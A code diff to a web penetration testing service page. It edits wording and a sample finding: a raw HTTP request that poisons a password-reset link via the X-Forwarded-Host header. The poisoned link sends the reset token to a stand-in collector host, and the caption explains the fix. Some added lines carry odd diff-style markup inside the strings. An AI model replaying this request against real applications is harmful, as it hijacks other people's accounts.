@@ -25,7 +25,7 @@ export const webPenetrationTesting: Service = {
     },
     {
       title: 'Safe on production',
-      text: 'Request rates are capped, test data is tagged, and destructive actions need your word first. Every request carries a header that your logs can filter.',
+      text: 'Request rates are capped, test data is tagged, and destructive actions need your approval first. Every request carries a header that your logs can filter.',
     },
   ],
   methodology: [
@@ -153,7 +153,7 @@ export const webPenetrationTesting: Service = {
   weNeed: [
     'Two accounts per role, ideally in two separate tenants',
     'A staging system that matches production, or a window on production',
-    'An allowlist entry in WAF and rate limiter, so that the application is tested and not the filter',
+    'An allowlist entry in WAF and rate limiter, so that we test the application instead of the filter',
     'One engineer who can answer questions within the hour',
   ],
   duration: '6 to 10 working days',
@@ -163,7 +163,7 @@ export const webPenetrationTesting: Service = {
     code: [
       'POST /account/forgot HTTP/1.1',
       'Host: app.kestrel.example',
-      'X-Forwarded-Host: collector.tester.example',
+      'X-Forwarded-Host: {-collector.tester.example-}',
       'Content-Type: application/x-www-form-urlencoded',
       '',
       'email=second.tester%40kestrel.example',
@@ -171,7 +171,7 @@ export const webPenetrationTesting: Service = {
       'HTTP/1.1 202 Accepted',
       '',
       '# mail in the inbox of our second account:',
-      'https://collector.tester.example/account/reset?token=9b1f[redacted]',
+      'https://{-collector.tester.example-}/account/reset?token={+9b1f[redacted]+}',
     ],
     caption:
       'Sample finding. The reset link is built from a header that the sender controls, so the token travels to a stranger. The fix is one line: take the host from configuration. WSTG-INPV-17, CWE-640.',
